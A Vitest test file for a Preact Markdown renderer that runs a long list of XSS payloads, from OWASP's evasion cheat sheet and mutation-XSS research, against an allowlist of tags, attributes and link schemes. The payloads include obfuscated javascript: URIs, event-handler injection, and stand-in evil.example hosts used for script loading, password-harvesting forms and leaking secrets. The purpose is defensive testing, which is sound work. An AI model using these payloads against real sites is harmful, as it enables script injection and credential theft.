import { render as mount } from "preact";
import { render } from "preact-render-to-string";
import { describe, expect, test } from "vitest";
import Markdown from ".";

/**
 * Answers are made of what strangers wrote. Each payload, alone and inside every kind of block, may
 * become text and links to http(s) and mailto, and nothing else: checked on the elements that are
 * made, and once more on those that a parser makes of them written out (mutation XSS).
 */

const B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // pragma: allowlist secret

// After OWASP's "XSS Filter Evasion Cheat Sheet".
const HTML = [
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<script\n>alert(1)</script\t>",
  "<script/x src=//evil.example></script>",
  "<SCRIPT/SRC=https://evil.example/?<B>",
  "<SCRIPT a='>' SRC=//evil.example/x.js></SCRIPT>",
  "</script><script>alert(1)</script>",
  "\\<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3c;svg onload=alert(1)&#x3e;",
  "\u003Cscript\u003Ealert(1)\u003C/script\u003E",
  "<script\u0000>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\u000b=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG LOWSRC="javascript:alert(1)" DYNSRC="javascript:alert(1)">',
  "<img srcset='https://evil.example/?q=secret 1x'>",
  "<picture><source srcset=//evil.example><img></picture>",
  "<body onload=alert(1)>",
  "<BODY BACKGROUND='javascript:alert(1)'>",
  "<bgsound src=//evil.example>",
  "<br size='&{alert(1)}'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example)}</style>",
  "<div style='background-image:url(javascript:alert(1))'>x</div>",
  "<p style='position:fixed;inset:0'>cover</p>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<object data=data:text/html;base64,PHN2Zz4=></object>",
  "<embed src=//evil.example/x.swf allowscriptaccess=always>",
  "<applet code=x></applet>",
  "<portal src=//evil.example></portal>",
  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<select onfocus=alert(1) autofocus>",
  "<textarea autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video poster=//evil.example/?secret>",
  "<marquee onstart=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a onmouseover=alert(1)>x</a>",
  "<x contenteditable onblur=alert(1)>x</x>",
  "<template><script>alert(1)</script></template>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
  "<img name=getElementById><form id=cookie>",
];

const SVG = [
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:text/javascript,alert(1)/></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)></svg>",
  "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
  "<svg><image href=https://evil.example/?secret></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<svg><style>{font-family:'<img src=x onerror=alert(1)>'</style></svg>",
];

// What is harmless to one parser and not to the next: mXSS, after Heiderich et al. and DOMPurify.
const MUTATION = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<title></title><img src=x onerror=alert(1)>",
  "<math href='javascript:alert(1)'>x</math>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
  "`` ` </code><svg onload=alert(1)> ``",
  '``` "><img src=x onerror=alert(1)>\nx\n```',
  '~~~" onmouseover="alert(1)\nx\n~~~',
];

const JAVASCRIPT = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "&#106;&#97;&#118;&#97;script:alert(1)",
  "&#0000106avascript:alert(1)",
  "&#x6A&#x61vascript:alert(1)",
  "java&#x09;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java&#x0A;script:alert(1)",
  "java&#x0D;script:alert(1)",
  "java\u0000script:alert(1)",
  "java\u00adscript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "&#14;javascript:alert(1)",
  "javascript:%61lert(1)",
  "javascript%3Aalert(1)",
  "%6A%61%76%61script:alert(1)",
  "java\\script:alert(1)",
  "javascript\\:alert(1)",
  "javascript://https://example.com/%0Aalert(1)",
  "javascript:void(0)//https://example.com",
  "ｊavascript:alert(1)",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "mocha:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  `data:text/html;base64,${B64}`,
  `DATA:text/html;base64,${B64}`,
  `data:image/svg+xml;base64,${B64}`,
  "data:,x",
  "blob:https://example.com/1",
  "file:///etc/passwd",
  "filesystem:https://example.com/x",
  "about:blank",
  "intent://x#Intent;scheme=http;end",
  "ms-word:ofe|u|https://evil.example/x.docm",
  "search-ms:query=x&crumb=location:\\\\evil.example",
  "tel:+15551234",
  "ftp://evil.example/",
  "ws://evil.example/",
  "//evil.example/?secret",
  "\\\\evil.example\\share",
  "/api/v1/session",
  "../../api/v1/documents",
  "?next=https://evil.example",
  "#main",
  "http:",
  "https://",
  "https://[::1",
];

// Ways of writing an address into Markdown.
const WAYS: ((address: string) => string)[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `[x](${a} "title")`,
  (a) => `![x](${a})`,
  (a) => `![x](<${a}>)`,
  (a) => `[![x](${a})](${a})`,
  (a) => `<${a}>`,
  (a) => a,
  (a) => `[x]\n\n[x]: ${a}`,
  (a) => `[x][1]\n\n[1]: <${a}> "t"`,
];

const TRICKS = [
  '[x](https://example.com/"onmouseover="alert(1))',
  "[x](https://example.com/'onmouseover='alert(1))",
  '[x](https://example.com "\\"><img src=x onerror=alert(1)>")',
  '[x](<https://example.com/" onclick="alert(1)>)',
  "[x](https://example.com/<script>alert(1)</script>)",
  "![x](https://evil.example/pixel.gif?q=secret)",
  '![" onerror="alert(1)](https://example.com/x.png)',
  '![x](https://example.com/x.png"onerror="alert(1))',
  "![![x](javascript:alert(1))](https://example.com)",
  "[<img src=x onerror=alert(1)>](https://example.com)",
  "[a]: javascript:alert(1)\n[a]",
  "[1]: https://evil.example/ '<script>'\n\n[1] [1][1]",
  "**<img src=x onerror=alert(1)>**",
  "~~<svg onload=alert(1)>~~",
  "# <img src=x onerror=alert(1)>",
  "- [x] <img src=x onerror=alert(1)>",
  "1. <iframe src=javascript:alert(1)>",
  "| <svg/onload=alert(1)> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
  '|"onmouseover=alert(1)|\n|:--|\n|x|',
  "https://example.com/<script>alert(1)</script>",
  "www.example.com/<img/src=x/onerror=alert(1)>",
  "<https://example.com/\"onclick='alert(1)'>",
  "<mailto:a@example.com?body=<script>>",
  "a@example.com<script>alert(1)</script>",
  "<div>\n\n[x](javascript:alert(1))\n\n</div>",
  "[x](https://example.com)<img src=x onerror=alert(1)>",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "$$\\href{javascript:alert(1)}{x}$$",
  "{{constructor.constructor('alert(1)')()}}",
  "\u202e<script>alert(1)</script>",
  "[1](javascript:alert(1))",
  "[1, 2](https://evil.example)",
];

const PAYLOADS = [
  ...HTML,
  ...SVG,
  ...MUTATION,
  ...TRICKS,
  ...JAVASCRIPT.flatMap((address) => WAYS.map((write) => write(address))),
];

const INSIDE: ((payload: string) => string)[] = [
  (p) => p,
  (p) => `before ${p} after [1]`,
  (p) => `> ${p.replaceAll("\n", "\n> ")}`,
  (p) => `- a\n  - ${p.replaceAll("\n", "\n    ")}`,
  (p) => `**${p}**`,
];

const TAGS =
  "a b blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre span strong svg " +
  "table tbody td th thead tr ul";
const ALLOWED_TAGS = new Set(TAGS.split(" "));
const ATTRIBUTES =
  "aria-hidden aria-label class d disabled focusable href rel start tabindex target title " +
  "type viewbox";
const ALLOWED_ATTRIBUTES = new Set(ATTRIBUTES.split(" "));
const OURS = new Set([
  "code",
  "code-top",
  "code-language",
  "maths",
  "maths display",
  "icon-button",
  "kept",
  "image",
  "markdown",
  "scroll",
  "task",
  "center",
  "right",
  "left",
]);

function complaints(root: ParentNode): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const tag = element.localName.toLowerCase();
    const found: string[] = ALLOWED_TAGS.has(tag) ? [] : [`<${tag}>`];
    // The only drawing is our icon for copying.
    if (tag === "svg" && !element.closest("button")) found.push("a drawing");
    for (const { name, value } of [...element.attributes]) {
      if (!ALLOWED_ATTRIBUTES.has(name.toLowerCase())) found.push(`${tag} ${name}`);
      if (name === "href" && !/^(https?:\/\/[^/]|mailto:)/.test(value)) found.push(`to ${value}`);
      if (name === "class" && value && tag !== "svg" && !OURS.has(value)) found.push(value);
    }
    if (tag === "a" && element.getAttribute("rel") !== "noopener noreferrer nofollow") {
      found.push("a link that tells where from");
    }
    return found;
  });
}

const answer = (source: string) => (
  <Markdown source={source} citation={(number) => (number <= 3 ? <b>{number}</b> : undefined)} />
);

describe("no answer can run or load anything", () => {
  test.each(PAYLOADS)("%j", (payload) => {
    for (const put of INSIDE) {
      const source = put(payload);
      const made = document.createElement("div");
      mount(answer(source), made);
      expect(complaints(made), source).toEqual([]);
      const parsed = document.createElement("div");
      parsed.innerHTML = render(answer(source));
      expect(complaints(parsed), source).toEqual([]);
      mount(null, made);
    }
  });

  test("the check itself sees what it is for", () => {
    const wrong = document.createElement("div");
    wrong.innerHTML =
      "<img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a><p onclick=x style=y>x</p>";
    expect(complaints(wrong)).toEqual([
      "<img>",
      "img src",
      "img onerror",
      "to javascript:alert(1)",
      "a link that tells where from",
      "p onclick",
      "p style",
    ]);
  });

  test("nothing is lost by it: the text of a payload stays readable", () => {
    expect(render(answer("see <script>alert(1)</script>"))).toContain(
      "see &lt;script>alert(1)&lt;/script>",
    );
    for (const address of ["http://a.example/", "https://a.example/?b=c", "mailto:a@b.example"]) {
      expect(render(answer(`[x](${address})`))).toContain(`href="${address}"`);
    }
  });
});
